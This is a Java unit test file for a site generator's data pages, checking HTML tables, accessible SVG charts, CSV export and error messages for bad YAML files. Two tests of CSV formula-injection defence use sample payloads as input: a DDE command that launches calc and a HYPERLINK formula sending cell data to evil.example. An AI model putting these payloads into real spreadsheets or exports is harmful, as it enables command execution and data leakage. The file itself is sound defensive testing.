package org.noticeboard.datapages;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.noticeboard.build.BuildResult;
import org.noticeboard.testing.TestSite;

/** Data tables: a page with a table and an accessible chart, and exact errors for bad files. */
class DataPagesTest {

    static final String TABLE = """
            title: 2026年监督检查发现问题数
            summary: 每季度检查发现的问题。
            source: 监督检查小组
            updated: 2026-11-20
            unit: 项
            row_header: 公开栏
            columns: [第一季度, 第二季度, 第三季度]
            rows:
              - {label: 测试街道办事处, values: [4, 2, ~]}
              - {label: 东社区居委会, values: [6, 3.5, ~]}
            note: 第三季度尚未检查。
            """;

    @TempDir
    Path temp;

    @Test
    void tableAndChartPageListedOnTheDataIndex() throws Exception {
        TestSite site = TestSite.in(temp).file("data/statistics/checks-2026.yaml", TABLE);
        assertTrue(site.build().published());
        Document index = site.page("data/index.html");
        assertEquals("checks-2026.html", index.selectFirst("ul.cards a").attr("href")
                .replace("../data/", ""));
        Document page = site.page("data/checks-2026.html");
        Element table = page.selectFirst("table.data");
        assertEquals(List.of("公开栏", "第一季度", "第二季度", "第三季度"),
                table.select("thead th").eachText());
        assertEquals(List.of("测试街道办事处", "4", "2", "—"),
                table.select("tbody tr").get(0).children().eachText());
        Element svg = page.selectFirst("figure svg");
        assertEquals("img", svg.attr("role"));
        assertEquals("chart-checks-2026-title chart-checks-2026-desc",
                svg.attr("aria-labelledby"));
        assertEquals("2026年监督检查发现问题数", svg.selectFirst("title").text());
        assertTrue(svg.selectFirst("desc").text()
                .contains("东社区居委会：第一季度 6项，第二季度 3.5项，第三季度 —"),
                svg.selectFirst("desc").text());
        assertEquals(4, svg.select("rect[width]").stream()
                .filter(r -> !r.attr("width").equals("14")).count(), "one bar per known figure");
        assertTrue(page.select("script").isEmpty(), "no script");
        String csv = Files.readString(site.output().resolve("data/checks-2026.csv"));
        assertEquals("\uFEFF公开栏,第一季度,第二季度,第三季度\r\n测试街道办事处,4,2,\r\n东社区居委会,6,3.5,\r\n",
                csv);
        assertEquals(1, site.page("index.html")
                .select("footer a[href=./data/index.html]").size());
    }

    @Test
    void wrongFiguresAreReportedWithTheirLine() {
        TestSite site = TestSite.in(temp).file("data/statistics/bad.yaml", """
                title: 表
                source: 小组
                updated: 2026-11-20
                row_header: 公开栏
                columns: [第一季度, 第二季度]
                rows:
                  - {label: 甲, values: [4, 三]}
                  - {label: 乙, values: [1]}
                chart: pie
                """);
        BuildResult result = site.build();
        assertFalse(result.published());
        assertEquals(List.of(
                "content/data/statistics/bad.yaml:9:8: error: 'pie' is not allowed for 'chart' "
                        + "[chart]"), TestSite.lines(result));
        site.file("data/statistics/bad.yaml", """
                title: 表
                source: 小组
                updated: 2026-11-20
                row_header: 公开栏
                columns: [第一季度, 第二季度]
                rows:
                  - {label: 甲, values: [4, 三]}
                  - {label: 乙, values: [1]}
                """);
        assertEquals(List.of(
                "content/data/statistics/bad.yaml:7:28: error: '三' is not a number "
                        + "[rows.0.values.1]",
                "content/data/statistics/bad.yaml:8:24: error: row '乙' has 1 figures but the "
                        + "table has 2 columns [rows.1.values]"),
                TestSite.lines(site.build()));
    }

    @Test
    void missingFieldAndUnsafeName() {
        TestSite site = TestSite.in(temp)
                .file("data/statistics/Bad Name.yaml", TABLE)
                .file("data/statistics/no-source.yaml", TABLE.replace("source: 监督检查小组\n", ""));
        assertEquals(List.of(
                "content/data/statistics/Bad Name.yaml: error: unsafe data file name "
                        + "'Bad Name.yaml'",
                "content/data/statistics/no-source.yaml:1:1: error: required field 'source' is "
                        + "missing [source]"),
                TestSite.lines(site.build()));
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreTextButNegativeFiguresStayNumbers()
            throws Exception {
        TestSite site = TestSite.in(temp).file("data/statistics/formulas.yaml", """
                title: 表
                source: 小组
                updated: 2026-11-20
                row_header: "+cmd|' /C calc'!A0"
                columns: ["@SUM(1+1)", "-2", "第三季度"]
                rows:
                  - {label: '=HYPERLINK("http://evil.example/?"&A1,"点此")', values: [-3.5, -12, 4]}
                  - {label: "-负责人", values: [1, ~, 0.5]}
                """);
        assertTrue(site.build().published());
        String csv = Files.readString(site.output().resolve("data/formulas.csv"));
        assertEquals("\uFEFF'+cmd|' /C calc'!A0,'@SUM(1+1),-2,第三季度\r\n"
                + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",-3.5,-12,4\r\n"
                + "'-负责人,1,,0.5\r\n", csv);
    }

    @Test
    void csvCellNeutralisesEveryFormulaStartOwaspNamesAndNothingElse() {
        for (String formula : List.of("=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "-", "+")) {
            assertEquals("'" + formula, CsvCell.neutralised(formula), formula);
        }
        for (String plain : List.of("", "-3.5", "-12", "+7", "12", "0.25", "甲=乙", "a-b", "'x")) {
            assertEquals(plain, CsvCell.neutralised(plain), plain);
        }
    }
}
